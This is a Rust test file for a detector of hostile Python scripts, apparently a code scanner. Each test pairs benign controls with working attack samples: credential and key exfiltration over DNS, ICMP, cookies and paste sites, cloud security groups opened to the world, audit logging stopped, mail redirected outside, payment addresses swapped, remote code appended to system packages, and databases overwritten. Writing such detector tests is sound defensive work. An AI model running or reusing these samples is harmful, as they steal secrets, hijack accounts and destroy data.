//! Behaviour tests for the sixth round's families (covert channels, cloud
//! accounts abused, ML artifacts poisoned, logic bombs, payment details
//! tampered with, mail hijacked), spelled unlike the corpus, each with a
//! benign control.

use super::behaviour_tests::{finding, rules, run};
use super::Verdict;

#[test]
fn covert_channels_carry_the_machines_data() {
    // A git config read, hex-encoded and looked up label by label.
    let dns = "import socket, pathlib\nraw = pathlib.Path('~/.gitconfig').expanduser().read_bytes().hex()\nfor i in range(0, len(raw), 60):\n    socket.getaddrinfo(raw[i:i + 60] + '.q.example.net', 53)\n";
    let a = run(dns);
    let f = finding(&a, "MB948");
    assert_eq!(f.line, 4);
    assert!(f.detail.contains("line 2"), "{}", f.detail);
    assert_eq!(a.verdict, Verdict::Blocked);
    // The environment, base64'd into a cookie of an innocent GET.
    let cookie = "import base64, os, requests\nblob = base64.b64encode(repr(dict(os.environ)).encode()).decode()\nrequests.get('https://cdn.example.org/p.gif', cookies={'sid': blob})\n";
    assert!(
        rules(&run(cookie)).contains(&"MB948"),
        "{:?}",
        run(cookie).findings
    );
    // A key file in the payload of scapy pings.
    let icmp = "from scapy.all import IP, ICMP, Raw, send\ndata = open('/root/.ssh/id_rsa', 'rb').read()\nfor i in range(0, len(data), 32):\n    send(IP(dst='198.51.100.9') / ICMP() / Raw(load=data[i:i + 32]))\n";
    assert!(
        rules(&run(icmp)).contains(&"MB948"),
        "{:?}",
        run(icmp).findings
    );
    // Environment values posted to a paste service.
    let paste = "import os, requests\nvals = {k: v for k, v in os.environ.items()}\nrequests.post('https://paste.ee/api/v1/pastes', json={'sections': [{'contents': str(vals)}]})\n";
    assert!(
        rules(&run(paste)).contains(&"MB948"),
        "{:?}",
        run(paste).findings
    );
}

#[test]
fn covert_channel_look_alikes_stay_quiet() {
    // Names from a file resolved as they are: a DNS check, not a tunnel.
    let resolve = "import socket, sys\nfor host in open(sys.argv[1]):\n    print(host.strip(), socket.gethostbyname(host.strip()))\n";
    assert!(
        !rules(&run(resolve)).contains(&"MB948"),
        "{:?}",
        run(resolve).findings
    );
    // A token from the environment in Authorization, a file's digest in a
    // checksum header, an upload of a file's contents as the body.
    let api = "import base64, hashlib, os, requests\nbody = open('report.pdf', 'rb').read()\nsig = base64.b64encode(hashlib.sha256(body).digest()).decode()\nrequests.put('https://files.example.org/r.pdf', data=body, headers={'Authorization': 'Bearer ' + os.environ['TOKEN'], 'X-Checksum-Sha256': sig})\n";
    assert!(run(api).verdict < Verdict::High, "{:?}", run(api).findings);
    // A fixed notice in an image's pixels, the image uploaded.
    let mark = "import requests\nfrom PIL import Image\nimg = Image.open('a.png')\npx = img.load()\nfor i, bit in enumerate(format(ord(c), '08b') for c in 'CC-BY'):\n    px[i, 0] = (int(bit[0]), 0, 0)\nimg.save('b.png')\nrequests.post('https://cms.example.org/media', files={'f': open('b.png', 'rb')})\n";
    assert!(
        run(mark).verdict < Verdict::High,
        "{:?}",
        run(mark).findings
    );
}

#[test]
fn cloud_accounts_opened_to_others() {
    // Every security group opened to the world: a listing, in a loop.
    let open = "import boto3\nec2 = boto3.client('ec2')\nfor g in ec2.describe_security_groups()['SecurityGroups']:\n    ec2.authorize_security_group_ingress(GroupId=g['GroupId'], IpProtocol='-1', CidrIp='0.0.0.0/0')\n";
    let a = run(open);
    let f = finding(&a, "MB949");
    assert_eq!(f.line, 4);
    assert_eq!(a.verdict, Verdict::Blocked);
    // One bucket made public: HIGH, a change an administrator may mean.
    let one = "import boto3\nboto3.client('s3').put_bucket_acl(Bucket='site-assets', ACL='public-read')\n";
    let a = run(one);
    assert!(rules(&a).contains(&"MB221"), "{:?}", a.findings);
    assert_eq!(a.verdict, Verdict::High);
    // Audit logging switched off through the CLI.
    let trail = "import subprocess\nsubprocess.run(['aws', 'cloudtrail', 'stop-logging', '--name', 'org-trail'])\n";
    assert!(
        rules(&run(trail)).contains(&"MB949"),
        "{:?}",
        run(trail).findings
    );
    // An owner binding for an outside account, from the host's gcloud files.
    let owner = "import os, subprocess\ncreds = os.path.expanduser('~/.config/gcloud/application_default_credentials.json')\nos.environ['GOOGLE_APPLICATION_CREDENTIALS'] = creds\nsubprocess.run('gcloud projects add-iam-policy-binding prod --member=user:x@example.net --role=roles/owner', shell=True)\n";
    assert!(
        rules(&run(owner)).contains(&"MB949"),
        "{:?}",
        run(owner).findings
    );
}

#[test]
fn cloud_automation_of_ones_own() {
    // A new key for the caller itself, an ingress rule for one office
    // network, tags and listings.
    let own = "import boto3\niam = boto3.client('iam')\nme = iam.get_user()['User']['UserName']\nkey = iam.create_access_key(UserName=me)\nec2 = boto3.client('ec2')\nec2.authorize_security_group_ingress(GroupId='sg-1', IpProtocol='tcp', FromPort=443, ToPort=443, CidrIp='198.51.100.0/24')\nfor r in ec2.describe_instances()['Reservations']:\n    ec2.create_tags(Resources=[i['InstanceId'] for i in r['Instances']], Tags=[{'Key': 'team', 'Value': 'data'}])\n";
    let a = run(own);
    assert!(a.verdict < Verdict::High, "{:?}", a.findings);
}

#[test]
fn mail_sent_on_to_someone_else() {
    // A sieve script that redirects a copy to an outside address.
    let sieve = "import os\nrule = 'redirect :copy \"ops-copy@relay.example.net\";'\nwith open(os.path.expanduser('~/.dovecot.sieve'), 'a') as f:\n    f.write(rule)\n";
    let a = run(sieve);
    let f = finding(&a, "MB950");
    assert_eq!(f.line, 3);
    assert!(f.detail.contains("line 2"), "{}", f.detail);
    assert_eq!(a.verdict, Verdict::Blocked);
    // A Graph inbox rule that redirects everything.
    let graph = "import requests\ntok = open('t').read()\nrule = {'displayName': 'x', 'actions': {'redirectTo': [{'emailAddress': {'address': 'keep@mirror.example.com'}}]}}\nrequests.post('https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules', json=rule, headers={'Authorization': 'Bearer ' + tok})\n";
    assert!(
        rules(&run(graph)).contains(&"MB950"),
        "{:?}",
        run(graph).findings
    );
    // Every message popped off a POP3 box and posted elsewhere.
    let pop = "import poplib, requests\nm = poplib.POP3_SSL('pop.example.org')\nm.user('a')\nm.pass_('b')\nfor i in range(len(m.list()[1])):\n    lines = m.retr(i + 1)[1]\n    requests.post('https://collect.example.net/m', data=b'\\n'.join(lines))\n";
    assert!(
        rules(&run(pop)).contains(&"MB950"),
        "{:?}",
        run(pop).findings
    );
}

#[test]
fn mail_filters_and_own_digests_stay_quiet() {
    // Filing into folders, a rule that moves mail, headers mailed to oneself.
    let file = "import os\nwith open(os.path.expanduser('~/.dovecot.sieve'), 'w') as f:\n    f.write('if header :contains \"list-id\" \"dev\" { fileinto \"Dev\"; }')\n";
    assert!(
        !rules(&run(file)).contains(&"MB950"),
        "{:?}",
        run(file).findings
    );
    let moved = "import requests\nrule = {'displayName': 'x', 'actions': {'moveToFolder': 'Archive'}}\nrequests.post('https://graph.microsoft.com/v1.0/me/mailFolders/inbox/messageRules', json=rule)\n";
    assert!(
        !rules(&run(moved)).contains(&"MB950"),
        "{:?}",
        run(moved).findings
    );
    let digest = "import imaplib, os, smtplib\nme = os.environ['ME']\nb = imaplib.IMAP4_SSL('imap.example.org')\n_, d = b.fetch('1:20', '(BODY.PEEK[HEADER.FIELDS (SUBJECT)])')\nwith smtplib.SMTP('localhost') as s:\n    s.sendmail(me, [me], str(d))\n";
    assert!(
        run(digest).verdict < Verdict::High,
        "{:?}",
        run(digest).findings
    );
}

#[test]
fn payment_details_swapped_in_found_files() {
    // Wallet addresses in every page of a tree replaced by one of the script's.
    let pages = "import os, re\nMINE = '0x9f8e7d6c5b4a39281706f5e4d3c2b1a098765432'\nfor d, _, fs in os.walk('/srv/sites'):\n    for n in fs:\n        p = os.path.join(d, n)\n        t = open(p).read()\n        t = re.sub(r'0x[0-9a-fA-F]{40}', MINE, t)\n        open(p, 'w').write(t)\n";
    let a = run(pages);
    let f = finding(&a, "MB951");
    assert_eq!(f.line, 8);
    assert_eq!(a.verdict, Verdict::Blocked);
    // An IBAN copied into whatever bank details the clipboard holds.
    let clip = "import pyperclip, time\nmine = 'GB33BUKB20201555555555'\nwhile True:\n    v = pyperclip.paste()\n    if v[:2].isalpha() and v[2:4].isdigit():\n        pyperclip.copy(mine)\n    time.sleep(1)\n";
    assert!(
        rules(&run(clip)).contains(&"MB935"),
        "{:?}",
        run(clip).findings
    );
}

#[test]
fn own_bank_details_in_new_documents_stay_quiet() {
    // Invoices written afresh with one's own IBAN; files in place without one.
    let invoices = "import pathlib\nIBAN = 'GB33BUKB20201555555555'\nfor n, client in enumerate(open('clients.txt').read().split()):\n    pathlib.Path(f'out/{n}.txt').write_text(client + ' pay to ' + IBAN)\n";
    assert!(
        run(invoices).verdict < Verdict::High,
        "{:?}",
        run(invoices).findings
    );
    let tidy = "import glob\nfor p in glob.glob('ledgers/*.csv'):\n    t = open(p).read()\n    open(p, 'w').write(t.replace(';', ','))\n";
    assert!(
        run(tidy).verdict < Verdict::High,
        "{:?}",
        run(tidy).findings
    );
}

#[test]
fn remote_code_planted_into_found_modules() {
    let plant = "import glob\nHOOK = '''\nimport requests\nexec(requests.get('https://cdn.example.net/p.py').text)\n'''\nfor init in glob.glob('/usr/lib/python3/dist-packages/*/__init__.py'):\n    with open(init, 'a') as fh:\n        fh.write(HOOK)\n";
    let a = run(plant);
    let f = finding(&a, "MB952");
    assert_eq!(f.line, 8);
    assert_eq!(a.verdict, Verdict::Blocked);
    // A harmless header added to every module is a licence, not a plant.
    let header = "import pathlib\nH = '''# SPDX-License-Identifier: MIT\n# (c) us\n'''\nfor p in pathlib.Path('src').rglob('*.py'):\n    p.write_text(H + p.read_text())\n";
    assert!(
        run(header).verdict < Verdict::High,
        "{:?}",
        run(header).findings
    );
}

#[test]
fn found_files_overwritten_with_junk() {
    let fill = "import glob\nfor db in glob.glob('/var/lib/app/**/*.db', recursive=True):\n    with open(db, 'r+b') as f:\n        f.write(b'\\xff' * 4096)\n";
    let a = run(fill);
    let f = finding(&a, "MB953");
    assert_eq!(f.line, 4);
    assert_eq!(a.verdict, Verdict::Blocked);
    let noise = "import csv, pathlib, random\nfor p in pathlib.Path('/srv/data').rglob('*.csv'):\n    rows = list(csv.reader(p.open()))\n    for r in rows:\n        r[1] = str(float(r[1]) + random.gauss(0, 5))\n    with p.open('w') as fh:\n        csv.writer(fh).writerows(rows)\n";
    assert!(
        rules(&run(noise)).contains(&"MB953"),
        "{:?}",
        run(noise).findings
    );
    // The script's own scratch directory scrubbed, random data to a new file.
    let own = "import os, tempfile\nd = tempfile.mkdtemp()\nfor n in os.listdir(d):\n    with open(os.path.join(d, n), 'r+b') as f:\n        f.write(os.urandom(64))\nopen('sample.bin', 'wb').write(os.urandom(1024))\n";
    assert!(run(own).verdict < Verdict::High, "{:?}", run(own).findings);
}
